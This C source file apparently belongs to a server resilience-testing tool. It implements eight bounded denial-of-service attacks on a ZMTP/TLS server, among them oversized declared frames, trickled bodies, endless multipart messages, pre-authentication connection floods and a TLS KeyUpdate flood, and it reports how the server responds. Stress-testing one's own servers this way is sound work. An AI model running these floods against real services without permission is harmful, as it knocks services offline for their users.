/*
 * The attacks. Each opens its connections, does its harm within the limits
 * of hs_params_t, watches how the server answers, closes everything it
 * opened and says what happened in hs_outcome_t. A server that closes an
 * attacker early is an outcome ("closed ..."); `failed` is set only when
 * the attack could not be made at all.
 */
#include "hostile.h"

#include <errno.h>
#include <pthread.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <poll.h>
#include <sys/socket.h>

/* ---- how a set of connections ended -------------------------------------------------
 */

typedef struct ends {
    int n;           /* connections looked at */
    int count[8];    /* by hw_end_t */
    double first_s;  /* earliest close by the server, from its mark */
    double last_s;   /* latest */
    double *close_s; /* each close by the server, for the median */
    int closes;
    char first_why[128];
} ends_t;

static int by_server(hw_end_t e)
{
    return e == HW_EOF || e == HW_RESET || e == HW_ALERT || e == HW_ZMTP_ERROR;
}

static void ends_tally(ends_t *e, hw_conn_t *conns, size_t n)
{
    memset(e, 0, sizeof(*e));
    e->close_s = calloc(n > 0 ? n : 1, sizeof(double));
    for (size_t i = 0; i < n; i++) {
        hw_conn_t *c = &conns[i];
        if (c->fd < 0 && c->end == HW_OPEN)
            continue; /* never opened */
        e->n++;
        e->count[c->end]++;
        if (!by_server(c->end))
            continue;
        int64_t from = c->mark_ms != 0 ? c->mark_ms : c->opened_ms;
        double s = (double)(c->ended_ms - from) / 1000.0;
        if (e->closes == 0 || s < e->first_s)
            e->first_s = s;
        if (e->closes == 0 || s > e->last_s)
            e->last_s = s;
        if (e->close_s != NULL)
            e->close_s[e->closes] = s;
        if (e->closes++ == 0)
            tool_fmt(e->first_why, sizeof(e->first_why), "%s", c->why);
    }
}

/* "how: 3 ZMTP ERROR, 1 EOF" */
static void ends_kinds(const ends_t *e, char *buf, size_t len)
{
    static const hw_end_t kinds[] = {HW_ZMTP_ERROR, HW_ALERT, HW_EOF, HW_RESET};
    buf[0] = '\0';
    for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
        if (e->count[kinds[i]] > 0)
            tool_cat(buf, len, "%s%d %s", buf[0] ? ", " : "", e->count[kinds[i]],
                     hw_end_name(kinds[i]));
}

/* The short outcome of connections held for hold_s: "held 8/8 for 5.0 s",
 * or "closed 8/8 by the server after 0.00-0.01 s (8 ZMTP ERROR)". */
static void ends_outcome(ends_t *e, double hold_s, char *buf, size_t len)
{
    char kinds[96];
    ends_kinds(e, kinds, sizeof(kinds));
    int held = e->count[HW_OPEN];
    if (e->closes == 0) {
        tool_fmt(buf, len, "held %d/%d for %.1f s", held, e->n, hold_s);
        return;
    }
    qsort(e->close_s, (size_t)e->closes, sizeof(double), tool_cmp_double);
    double med = tool_quantile(e->close_s, (size_t)e->closes, 0.5);
    if (e->closes == 1 || e->last_s - e->first_s < 0.005)
        tool_fmt(buf, len, "closed %d/%d after %.2f s (%s)", e->closes, e->n, e->first_s,
                 kinds);
    else
        tool_fmt(buf, len, "closed %d/%d after %.2f-%.2f s, median %.2f (%s)", e->closes,
                 e->n, e->first_s, e->last_s, med, kinds);
    if (held > 0)
        tool_cat(buf, len, "; %d held %.1f s", held, hold_s);
}

static void ends_free(ends_t *e)
{
    free(e->close_s);
    e->close_s = NULL;
}

/* Watches conns until hold_ms passed or none is open. */
static void hold(hw_conn_t *conns, size_t n, long hold_ms)
{
    hw_conn_t **ptrs = calloc(n > 0 ? n : 1, sizeof(*ptrs));
    if (ptrs == NULL) {
        tool_sleep_ms(hold_ms);
        return;
    }
    for (size_t i = 0; i < n; i++)
        ptrs[i] = &conns[i];
    int64_t end = tool_now_ms() + hold_ms;
    for (;;) {
        int64_t left = end - tool_now_ms();
        if (left <= 0)
            break;
        if (hw_poll_many(ptrs, n, left < 100 ? (int)left : 100) == 0)
            break;
    }
    free(ptrs);
}

static void close_all(hw_conn_t *conns, size_t n)
{
    for (size_t i = 0; i < n; i++)
        hw_close(&conns[i], 0);
}

/* TCP (+ TLS) + ZMTP handshake as a REQ peer. */
static int open_req(hw_conn_t *c, const hw_target_t *t, SSL_CTX *ctx, long ms)
{
    int64_t deadline = tool_now_ms() + ms;
    if (hw_open(c, t, ctx, deadline) != 0)
        return -1;
    return hw_zmtp_handshake(c, "REQ", deadline);
}

/* Opens n REQ peers; says in o how many could not be opened and why.
 * Returns how many are open. */
static int open_many(hw_conn_t *conns, long n, const hw_target_t *t, const hs_params_t *p,
                     hs_outcome_t *o)
{
    int ok = 0, refused = 0, local = 0;
    char why[128] = "";
    for (long i = 0; i < n; i++) {
        if (open_req(&conns[i], t, NULL, p->handshake_ms) == 0) {
            ok++;
            continue;
        }
        if (by_server(conns[i].end))
            refused++;
        else
            local++;
        if (why[0] == '\0')
            tool_fmt(why, sizeof(why), "%s", conns[i].why);
    }
    if (refused + local > 0)
        tool_cat(o->detail, sizeof(o->detail),
                 " %d of %ld connections not established (%d closed by the server, %d "
                 "on our side; first: %s).",
                 refused + local, n, refused, local, why);
    if (ok == 0 && refused == 0)
        o->failed = 1;
    return ok;
}

/* ---- 1. declared size
 * ------------------------------------------------------------------ */

static void declared_size(const hw_target_t *t, const hs_params_t *p, hs_outcome_t *o)
{
    size_t n = (size_t)p->declared_conns;
    hw_conn_t *conns = calloc(n, sizeof(*conns));
    if (conns == NULL) {
        o->failed = 1;
        return;
    }
    char size[32];
    hs_fmt_bytes(size, sizeof(size), (double)p->declared_size);
    tool_fmt(o->detail, sizeof(o->detail),
             "%zu authenticated REQ peers, each a data frame header declaring %s "
             "(%llu bytes) then 16 bytes of it, held %.1f s.",
             n, size, (unsigned long long)p->declared_size, p->declared_hold_ms / 1000.0);
    int open = open_many(conns, (long)n, t, p, o);
    uint8_t msg[9 + 16];
    size_t hl = hw_frame_header(msg, 0, p->declared_size, 1);
    memset(msg + hl, 'x', 16);
    for (size_t i = 0; i < n; i++) {
        if (conns[i].end != HW_OPEN)
            continue;
        conns[i].mark_ms = tool_now_ms();
        hw_write(&conns[i], msg, hl + 16, tool_now_ms() + 2000);
    }
    if (open > 0)
        hold(conns, n, p->declared_hold_ms);
    ends_t e;
    ends_tally(&e, conns, n);
    ends_outcome(&e, p->declared_hold_ms / 1000.0, o->outcome, sizeof(o->outcome));
    if (e.first_why[0])
        tool_cat(o->detail, sizeof(o->detail), " First close: %s.", e.first_why);
    ends_free(&e);
    close_all(conns, n);
    free(conns);
}

/* ---- 1b. declared size, trickled
 * -------------------------------------------------------- */

#define TRICKLE_TICK_MS 50

static void declared_trickle(const hw_target_t *t, const hs_params_t *p, hs_outcome_t *o)
{
    size_t n = (size_t)p->trickle_conns;
    size_t chunk = (size_t)(p->trickle_rate * TRICKLE_TICK_MS / 1000);
    if (chunk == 0)
        chunk = 1;
    hw_conn_t *conns = calloc(n, sizeof(*conns));
    uint64_t *sent = calloc(n, sizeof(*sent));
    uint8_t *zeros = calloc(1, chunk);
    if (conns == NULL || sent == NULL || zeros == NULL) {
        free(conns);
        free(sent);
        free(zeros);
        o->failed = 1;
        return;
    }
    char size[32], rate[32];
    hs_fmt_bytes(size, sizeof(size), (double)p->trickle_size);
    hs_fmt_bytes(rate, sizeof(rate), (double)p->trickle_rate);
    tool_fmt(o->detail, sizeof(o->detail),
             "%zu authenticated REQ peers, each a data frame header declaring %s, then "
             "its body at %s/s per connection for %.1f s.",
             n, size, rate, p->trickle_ms / 1000.0);
    open_many(conns, (long)n, t, p, o);
    uint8_t head[9];
    size_t hl = hw_frame_header(head, 0, p->trickle_size, 1);
    for (size_t i = 0; i < n; i++) {
        if (conns[i].end != HW_OPEN)
            continue;
        conns[i].mark_ms = tool_now_ms();
        hw_write(&conns[i], head, hl, tool_now_ms() + 2000);
    }
    hw_conn_t **ptrs = calloc(n, sizeof(*ptrs));
    for (size_t i = 0; ptrs != NULL && i < n; i++)
        ptrs[i] = &conns[i];
    int64_t start = tool_now_ms(), end = start + p->trickle_ms;
    long stalls = 0;
    for (int64_t tick = start; tool_now_ms() < end; tick += TRICKLE_TICK_MS) {
        int open = 0;
        for (size_t i = 0; i < n; i++) {
            if (conns[i].end != HW_OPEN)
                continue;
            uint64_t left = p->trickle_size - sent[i];
            size_t k = left < chunk ? (size_t)left : chunk;
            size_t done = 0;
            if (k > 0 &&
                hw_write_some(&conns[i], zeros, k, tool_now_ms() + TRICKLE_TICK_MS,
                              &done) == -ETIMEDOUT)
                stalls++;
            sent[i] += done;
            open += conns[i].end == HW_OPEN;
        }
        if (open == 0)
            break;
        int64_t wait = tick + TRICKLE_TICK_MS - tool_now_ms();
        if (ptrs != NULL && wait > 0)
            hw_poll_many(ptrs, n, (int)wait);
    }
    double secs = (double)(tool_now_ms() - start) / 1000.0;
    uint64_t total = 0;
    for (size_t i = 0; i < n; i++)
        total += sent[i];
    ends_t e;
    ends_tally(&e, conns, n);
    ends_outcome(&e, secs, o->outcome, sizeof(o->outcome));
    char tot[32];
    hs_fmt_bytes(tot, sizeof(tot), (double)total);
    tool_cat(o->outcome, sizeof(o->outcome), "; %s sent", tot);
    tool_cat(o->detail, sizeof(o->detail), " Sent %s of body in %.1f s", tot, secs);
    if (stalls > 0)
        tool_cat(o->detail, sizeof(o->detail),
                 "; %ld writes found the server not reading", stalls);
    tool_cat(o->detail, sizeof(o->detail), ".");
    if (e.first_why[0])
        tool_cat(o->detail, sizeof(o->detail), " First close: %s.", e.first_why);
    ends_free(&e);
    close_all(conns, n);
    free(ptrs);
    free(conns);
    free(sent);
    free(zeros);
}

/* ---- 2. a message that never ends -----------------------------------------------------
 */

#define MP_FRAME    3 /* MORE, size 1, one byte */
#define MP_BATCH    10922
#define MP_STALL_MS 2000

static void multipart(const hw_target_t *t, const hs_params_t *p, hs_outcome_t *o)
{
    hw_conn_t c;
    tool_fmt(
        o->detail, sizeof(o->detail),
        "One authenticated REQ peer sends %ld frames of 1 byte, every one flagged "
        "MORE, never a last frame; then holds %.1f s. (Written: taken by our socket, "
        "whose loopback buffers hold megabytes; the server reads them from there.)",
        p->multipart_frames, p->multipart_hold_ms / 1000.0);
    if (open_many(&c, 1, t, p, o) == 0) {
        tool_fmt(o->outcome, sizeof(o->outcome), "could not connect: %s", c.why);
        hw_close(&c, 0);
        return;
    }
    static uint8_t batch[MP_BATCH * MP_FRAME];
    for (size_t i = 0; i < MP_BATCH; i++) {
        batch[i * MP_FRAME] = 1;
        batch[i * MP_FRAME + 1] = 1;
        batch[i * MP_FRAME + 2] = 'm';
    }
    c.mark_ms = tool_now_ms();
    int64_t deadline = c.mark_ms + p->multipart_ms;
    uint64_t bytes = 0, want = (uint64_t)p->multipart_frames * MP_FRAME;
    int stalled = 0;
    while (bytes < want && c.end == HW_OPEN) {
        int64_t now = tool_now_ms();
        if (now >= deadline) {
            stalled = 1;
            break;
        }
        uint64_t left = want - bytes;
        size_t k = left < sizeof(batch) ? (size_t)left : sizeof(batch);
        /* Whole frames per call, so a retry after a stall starts with the
         * same bytes. */
        size_t done = 0;
        int64_t until = now + MP_STALL_MS < deadline ? now + MP_STALL_MS : deadline;
        int rc = hw_write_some(&c, batch, k, until, &done);
        bytes += done;
        if (rc == -ETIMEDOUT) {
            stalled = 1;
            break;
        }
        if (rc == 0)
            hw_poll(&c);
    }
    double secs = (double)(tool_now_ms() - c.mark_ms) / 1000.0;
    long frames = (long)(bytes / MP_FRAME);
    if (c.end == HW_OPEN)
        hold(&c, 1, p->multipart_hold_ms);
    if (by_server(c.end)) {
        tool_fmt(o->outcome, sizeof(o->outcome), "closed after %ld frames sent (%s)",
                 frames, hw_end_name(c.end));
        tool_cat(o->detail, sizeof(o->detail), " Closed after %ld frames, %.1f s: %s.",
                 frames, (double)(c.ended_ms - c.mark_ms) / 1000.0, c.why);
    } else if (stalled) {
        tool_fmt(o->outcome, sizeof(o->outcome),
                 "server stopped reading after %ld frames; held", frames);
        tool_cat(o->detail, sizeof(o->detail),
                 " The server took %ld frames in %.1f s, then read nothing for %d ms.",
                 frames, secs, MP_STALL_MS);
    } else {
        tool_fmt(o->outcome, sizeof(o->outcome), "all %ld frames written in %.1f s; held",
                 frames, secs);
    }
    hw_close(&c, 0);
}

/* ---- 3. pre-authentication flood
 * -------------------------------------------------------- */

#define FLOOD_BURST        50
#define FLOOD_BURST_GAP_MS 10

/* Where one flood connection stands. */
enum { FL_PENDING, FL_UP, FL_FAILED };

/* A connect that completed (or failed): the first bytes go out at once. */
static void flood_connected(hw_conn_t *c, int *state, const uint8_t *first,
                            size_t first_len, size_t *connected, size_t *refused)
{
    int err = 0;
    socklen_t sl = sizeof(err);
    getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &sl);
    /* A reset this early is a server that accepted and closed at once:
     * connected, then closed by the server. */
    if (err == 0 || err == ECONNRESET) {
        *state = FL_UP;
        (*connected)++;
        if (err == ECONNRESET) {
            c->end = HW_RESET;
            c->ended_ms = tool_now_ms();
            tool_fmt(c->why, sizeof(c->why), "reset while connecting");
        } else if (first_len > 0) {
            hw_write(c, first, first_len, tool_now_ms() + 1000);
        }
        return;
    }
    *state = FL_FAILED;
    (*refused)++;
    c->end = HW_LOCAL_ERROR;
    c->ended_ms = tool_now_ms();
    tool_fmt(c->why, sizeof(c->why), "connect: %s", strerror(err));
}

static void flood(const hw_target_t *t, const hs_params_t *p, hs_outcome_t *o,
                  const uint8_t *first, size_t first_len)
{
    size_t n = (size_t)p->flood_conns;
    hw_conn_t *conns = calloc(n, sizeof(*conns));
    hw_conn_t **ptrs = calloc(n, sizeof(*ptrs));
    struct pollfd *pf = calloc(n, sizeof(*pf));
    int *state = calloc(n, sizeof(*state));
    if (conns == NULL || ptrs == NULL || pf == NULL || state == NULL) {
        free(conns);
        free(ptrs);
        free(pf);
        free(state);
        o->failed = 1;
        return;
    }
    /* Connections start in bursts the listen queue (ZMQ_BACKLOG, 100) can
     * take: one burst of thousands would leave most of them in SYN_RECV on
     * the server, never accepted, while they look connected to us. Each
     * sends its first bytes as soon as it is up, and all are watched from
     * then on, so a close is timed when it happens. */
    size_t started = 0, pending = 0, connected = 0, refused = 0;
    int start_err = 0;
    int64_t t0 = tool_now_ms(), deadline = t0 + p->flood_connect_ms;
    int64_t next_burst = t0;
    while (tool_now_ms() < deadline && ((started < n && start_err == 0) || pending > 0)) {
        for (size_t b = 0; started < n && start_err == 0 && tool_now_ms() >= next_burst &&
                           b < FLOOD_BURST;
             b++) {
            hw_conn_t *c = &conns[started];
            c->fd = -1;
            c->opened_ms = tool_now_ms();
            int rc = hw_tcp_start(t, (unsigned)started, &c->fd);
            if (rc < 0) {
                start_err = -rc;
                break;
            }
            ptrs[started] = c;
            state[started++] = FL_PENDING;
            pending++;
        }
        if (tool_now_ms() >= next_burst)
            next_burst = tool_now_ms() + FLOOD_BURST_GAP_MS;
        for (size_t i = 0; i < started; i++) {
            int watch =
                state[i] == FL_PENDING || (state[i] == FL_UP && conns[i].end == HW_OPEN);
            pf[i].fd = watch ? conns[i].fd : -1;
            pf[i].events = state[i] == FL_PENDING ? POLLOUT : POLLIN | POLLRDHUP;
            pf[i].revents = 0;
        }
        int64_t wait =
            (started < n && start_err == 0 ? next_burst : deadline) - tool_now_ms();
        int rc = poll(pf, started, wait < 0 ? 0 : wait > 200 ? 200 : (int)wait);
        for (size_t i = 0; rc > 0 && i < started; i++) {
            if (pf[i].revents == 0)
                continue;
            if (state[i] == FL_PENDING) {
                pending--;
                flood_connected(&conns[i], &state[i], first, first_len, &connected,
                                &refused);
            } else {
                hw_poll(&conns[i]);
            }
        }
    }
    for (size_t i = 0; i < started; i++) {
        if (state[i] == FL_PENDING) {
            conns[i].end = HW_TIMEOUT;
            tool_fmt(conns[i].why, sizeof(conns[i].why), "connect still pending");
        }
    }
    /* Then silence, until the server closes them or the hold ends. */
    int64_t mark = tool_now_ms();
    int64_t end = mark + p->flood_hold_ms;
    while (tool_now_ms() < end) {
        int64_t left = end - tool_now_ms();
        if (hw_poll_many(ptrs, started, left < 200 ? (int)left : 200) == 0)
            break;
    }
    double held_s = (double)(tool_now_ms() - mark) / 1000.0;
    ends_t e;
    ends_tally(&e, conns, started);
    e.n = (int)connected; /* the others never reached the server's accept */
    ends_outcome(&e, held_s, o->outcome, sizeof(o->outcome));
    tool_fmt(o->detail, sizeof(o->detail), "%zu TCP connections from %u source address%s",
             n, t->src_count, t->src_count == 1 ? "" : "es");
    if (first_len > 0)
        tool_cat(o->detail, sizeof(o->detail),
                 ", each sends %zu bytes (%s) and then nothing;", first_len,
                 t->tls ? "the first half of a ClientHello"
                        : "the first bytes of a ZMTP greeting");
    else
        tool_cat(o->detail, sizeof(o->detail), " that never send a byte;");
    tool_cat(
        o->detail, sizeof(o->detail),
        " held until the server closes them or %.1f s after the last connect; closes "
        "timed from each connect(2). %zu connected in %.1f s, %zu refused, %zu still "
        "connecting after %.1f s",
        p->flood_hold_ms / 1000.0, connected, (double)(mark - t0) / 1000.0, refused,
        started - connected - refused, p->flood_connect_ms / 1000.0);
    if (started < n)
        tool_cat(o->detail, sizeof(o->detail), ", %zu not started (%s)", n - started,
                 start_err != 0 ? strerror(start_err) : "out of time");
    tool_cat(o->detail, sizeof(o->detail), ".");
    if (e.first_why[0])
        tool_cat(o->detail, sizeof(o->detail), " First close: %s.", e.first_why);
    if (connected == 0)
        o->failed = 1;
    ends_free(&e);
    close_all(conns, started);
    free(conns);
    free(ptrs);
    free(pf);
    free(state);
}

static void preauth_idle(const hw_target_t *t, const hs_params_t *p, hs_outcome_t *o)
{
    flood(t, p, o, NULL, 0);
}

static void preauth_partial(const hw_target_t *t, const hs_params_t *p, hs_outcome_t *o)
{
    uint8_t first[2048];
    size_t n;
    if (t->tls) {
        n = hw_partial_client_hello(t, first, sizeof(first));
        if (n == 0) {
            tool_fmt(o->outcome, sizeof(o->outcome), "could not make a ClientHello");
            o->failed = 1;
            return;
        }
    } else {
        /* The ZMTP signature and the major version, then no more. */
        memset(first, 0, 11);
        first[0] = 0xff;
        first[9] = 0x7f;
        first[10] = 3;
        n = 11;
    }
    flood(t, p, o, first, n);
}

/* ---- 4. KeyUpdate flood
 * ---------------------------------------------------------------- */

static void keyupdate(const hw_target_t *t, const hs_params_t *p, hs_outcome_t *o)
{
    hw_conn_t c;
    tool_fmt(o->detail, sizeof(o->detail),
             "One authenticated REQ peer sends TLS KeyUpdate(update_requested) up to %ld "
             "times (or for %.1f s), reading the server's answers as it goes. (OpenSSL "
             "answers a KeyUpdate when it next writes on that connection, so on an idle "
             "one the last request stays unanswered.)",
             p->keyupdates, p->keyupdate_ms / 1000.0);
    if (open_many(&c, 1, t, p, o) == 0) {
        tool_fmt(o->outcome, sizeof(o->outcome), "could not connect: %s", c.why);
        hw_close(&c, 0);
        return;
    }
    c.mark_ms = tool_now_ms();
    int64_t deadline = c.mark_ms + p->keyupdate_ms;
    long sent = 0;
    while (sent < p->keyupdates && tool_now_ms() < deadline) {
        if (hw_key_update(&c, deadline) != 0)
            break;
        sent++;
        if (!hw_poll(&c))
            break;
    }
    double secs = (double)(tool_now_ms() - c.mark_ms) / 1000.0;
    /* The last answers may still be on their way. */
    int64_t drain = tool_now_ms() + 1000;
    while (c.end == HW_OPEN && c.ku_received < sent && tool_now_ms() < drain) {
        hw_conn_t *one = &c;
        hw_poll_many(&one, 1, 50);
    }
    if (by_server(c.end)) {
        tool_fmt(o->outcome, sizeof(o->outcome),
                 "closed after %ld sent, %ld answered (%s)", sent, c.ku_received,
                 hw_end_name(c.end));
        tool_cat(o->detail, sizeof(o->detail), " Closed after %.2f s: %s.",
                 (double)(c.ended_ms - c.mark_ms) / 1000.0, c.why);
    } else {
        tool_fmt(o->outcome, sizeof(o->outcome), "%ld sent in %.1f s, %ld answered; held",
                 sent, secs, c.ku_received);
        if (c.end != HW_OPEN)
            tool_cat(o->detail, sizeof(o->detail), " Stopped on our side: %s.", c.why);
    }
    hw_close(&c, 0);
}

/* ---- 5. connect/close soak
 * ------------------------------------------------------------- */

#define SOAK_GIVE_UP 50 /* consecutive failures: the server is not there */

typedef struct soak_state {
    const hw_target_t *t;
    const hs_params_t *p;
    int64_t deadline;
    pthread_mutex_t lock;
    long claimed, ok, failed, in_row; /* under lock */
    char why[128];
} soak_state_t;

/* One cycle: connect, handshakes, one request and its reply, close. */
static int soak_cycle(soak_state_t *s, char *why, size_t len)
{
    static const uint8_t req[] = {1, 0, 0, 4, 'p', 'i', 'n', 'g'};
    hw_conn_t c;
    uint8_t reply[sizeof(req)];
    int64_t until = tool_now_ms() + s->p->handshake_ms;
    int rc = open_req(&c, s->t, NULL, s->p->handshake_ms);
    if (rc == 0)
        rc = hw_write(&c, req, sizeof(req), until);
    if (rc == 0)
        rc = hw_read_full(&c, reply, sizeof(reply), until);
    if (rc == 0 && memcmp(reply, req, sizeof(req)) != 0) {
        rc = -1;
        tool_fmt(why, len, "a reply that is not the request");
    } else if (rc != 0) {
        tool_fmt(why, len, "%s", c.end != HW_OPEN ? c.why : "timed out");
    } else {
        hw_poll(&c); /* a session ticket, say: read before closing */
    }
    hw_close(&c, 1);
    return rc == 0 ? 0 : -1;
}

static void *soak_worker(void *arg)
{
    soak_state_t *s = arg;
    for (;;) {
        pthread_mutex_lock(&s->lock);
        int go = s->claimed < s->p->soak_cycles && s->in_row < SOAK_GIVE_UP &&
                 tool_now_ms() < s->deadline;
        s->claimed += go;
        pthread_mutex_unlock(&s->lock);
        if (!go)
            return NULL;
        char why[128] = "";
        int rc = soak_cycle(s, why, sizeof(why));
        pthread_mutex_lock(&s->lock);
        if (rc == 0) {
            s->ok++;
            s->in_row = 0;
        } else {
            s->failed++;
            s->in_row++;
            if (s->why[0] == '\0')
                tool_fmt(s->why, sizeof(s->why), "%s", why);
        }
        pthread_mutex_unlock(&s->lock);
    }
}

static void soak(const hw_target_t *t, const hs_params_t *p, hs_outcome_t *o)
{
    soak_state_t s = {.t = t, .p = p};
    pthread_mutex_init(&s.lock, NULL);
    int64_t start = tool_now_ms();
    s.deadline = start + p->soak_ms;
    pthread_t th[16];
    long n = p->soak_threads < 16 ? p->soak_threads : 16, started = 0;
    for (long i = 1; i < n; i++)
        if (pthread_create(&th[started], NULL, soak_worker, &s) == 0)
            started++;
    soak_worker(&s);
    for (long i = 0; i < started; i++)
        pthread_join(th[i], NULL);
    pthread_mutex_destroy(&s.lock);
    double secs = (double)(tool_now_ms() - start) / 1000.0;
    tool_fmt(
        o->detail, sizeof(o->detail),
        "Up to %ld cycles (or %.1f s) of a good REQ peer, %ld at a time: TCP connect, "
        "%sZMTP handshake, one request and its reply, %sclose.",
        p->soak_cycles, p->soak_ms / 1000.0, started + 1,
        t->tls ? "TLS 1.3 handshake with the client certificate, " : "",
        t->tls ? "close_notify, " : "");
    tool_fmt(o->outcome, sizeof(o->outcome), "%ld cycles in %.1f s (%.0f/s), %ld failed",
             s.ok, secs, secs > 0 ? (double)s.ok / secs : 0, s.failed);
    if (s.ok + s.failed < p->soak_cycles && s.in_row < SOAK_GIVE_UP)
        tool_cat(o->outcome, sizeof(o->outcome), "; stopped at the deadline");
    if (s.failed > 0)
        tool_cat(o->detail, sizeof(o->detail), " First failure: %s.", s.why);
    if (s.in_row >= SOAK_GIVE_UP)
        tool_cat(o->outcome, sizeof(o->outcome), "; gave up after %d failures in a row",
                 SOAK_GIVE_UP);
    if (s.ok == 0)
        o->failed = 1;
}

/* ---- 6. unauthenticated reconnects
 * ------------------------------------------------------ */

static void unauth_reconnect(const hw_target_t *t, const hs_params_t *p, hs_outcome_t *o)
{
    int64_t start = tool_now_ms(), end = start + p->unauth_ms;
    long attempts = 0, count[8] = {0};
    int alert = -1;
    char why[128] = "";
    while (tool_now_ms() < end) {
        hw_conn_t c;
        attempts++;
        int64_t until = tool_now_ms() + 1000;
        if (hw_open(&c, t, t->anon, until) == 0) {
            /* TLS 1.3: our handshake is done before the server has looked
             * at our (empty) Certificate; its answer comes next. */
            hw_conn_t *one = &c;
            while (c.end == HW_OPEN && tool_now_ms() < until)
                hw_poll_many(&one, 1, (int)(until - tool_now_ms()));
        }
        if (c.end == HW_OPEN) {
            c.end = HW_TIMEOUT;
            tool_fmt(c.why, sizeof(c.why), "no refusal within 1 s");
        }
        count[c.end]++;
        if (c.end == HW_ALERT && alert < 0)
            alert = c.alert;
        if (c.end != HW_ALERT && why[0] == '\0')
            tool_fmt(why, sizeof(why), "%s", c.why);
        hw_close(&c, 0);
    }
    double secs = (double)(tool_now_ms() - start) / 1000.0;
    tool_fmt(
        o->detail, sizeof(o->detail),
        "A TLS client with no certificate connects, completes its side of the TLS 1.3 "
        "handshake, waits up to 1 s for the refusal, closes and at once connects again, "
        "for %.1f s.",
        p->unauth_ms / 1000.0);
    tool_fmt(o->outcome, sizeof(o->outcome), "%ld attempts (%.0f/s):", attempts,
             secs > 0 ? (double)attempts / secs : 0);
    for (int k = HW_EOF; k <= HW_LOCAL_ERROR; k++) {
        if (count[k] == 0)
            continue;
        if (k == HW_ALERT)
            tool_cat(o->outcome, sizeof(o->outcome), " %ld alert %d,", count[k], alert);
        else
            tool_cat(o->outcome, sizeof(o->outcome), " %ld %s,", count[k],
                     hw_end_name((hw_end_t)k));
    }
    o->outcome[strlen(o->outcome) - 1] = '\0';
    if (why[0])
        tool_cat(o->detail, sizeof(o->detail), " Other than an alert: %s.", why);
    if (count[HW_LOCAL_ERROR] == attempts)
        o->failed = 1;
}

/* ---- the list
 * ----------------------------------------------------------------------------- */

/* Worst cases: every connection takes its full handshake deadline and its
 * first write its own (2 s). */
static long budget_declared(const hs_params_t *p)
{
    return p->declared_conns * (p->handshake_ms + 2000) + p->declared_hold_ms;
}

static long budget_trickle(const hs_params_t *p)
{
    return p->trickle_conns * (p->handshake_ms + 2000) + p->trickle_ms + TRICKLE_TICK_MS;
}

static long budget_multipart(const hs_params_t *p)
{
    return p->handshake_ms + p->multipart_ms + p->multipart_hold_ms;
}

static long budget_flood(const hs_params_t *p)
{
    /* writes of a few bytes to fresh sockets do not block */
    return p->flood_connect_ms + p->flood_hold_ms + 10000;
}

static long budget_keyupdate(const hs_params_t *p)
{
    return p->handshake_ms + p->keyupdate_ms + 1000;
}

static long budget_soak(const hs_params_t *p)
{
    return p->soak_ms + p->handshake_ms;
}

static long budget_unauth(const hs_params_t *p)
{
    return p->unauth_ms + 1000;
}

const hs_attack_t hs_attacks[] = {
    {"declared-size", "frame header declaring a huge size", 0, declared_size,
     budget_declared},
    {"declared-trickle", "huge declared frames, body trickled", 0, declared_trickle,
     budget_trickle},
    {"multipart", "a message of MORE frames that never ends", 0, multipart,
     budget_multipart},
    {"preauth-idle", "TCP connections that never send", 0, preauth_idle, budget_flood},
    {"preauth-partial", "connections stopping mid-hello", 0, preauth_partial,
     budget_flood},
    {"keyupdate", "TLS KeyUpdate flood", 1, keyupdate, budget_keyupdate},
    {"soak", "connect/close cycles of a good peer", 0, soak, budget_soak},
    {"unauth-reconnect", "no-certificate client reconnecting", 1, unauth_reconnect,
     budget_unauth},
};
const size_t hs_attack_count = sizeof(hs_attacks) / sizeof(hs_attacks[0]);
